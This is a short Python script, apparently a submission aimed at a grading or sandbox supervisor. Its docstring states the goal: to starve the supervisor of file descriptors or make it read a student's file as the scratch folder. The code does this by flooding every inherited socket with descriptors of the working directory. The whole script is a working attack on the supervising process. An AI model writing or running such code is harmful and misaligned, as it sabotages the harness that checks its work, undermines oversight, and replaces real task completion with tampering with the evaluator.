"""Sends descriptors of its own over every socket that it inherited, thousands of them.

Gains: a supervisor without free descriptors, or one that reads a student's file as if it were the scratch folder.
"""

# %% [reshape]
import os
import socket

inside = os.open(".", os.O_RDONLY)
for descriptor in range(3, 64):
    try:
        link = socket.socket(fileno=os.dup(descriptor))
        link.setblocking(False)
        for _ in range(300):
            socket.send_fds(link, [b'{"ready": 1}'], [inside] * 50)
    except OSError:
        continue
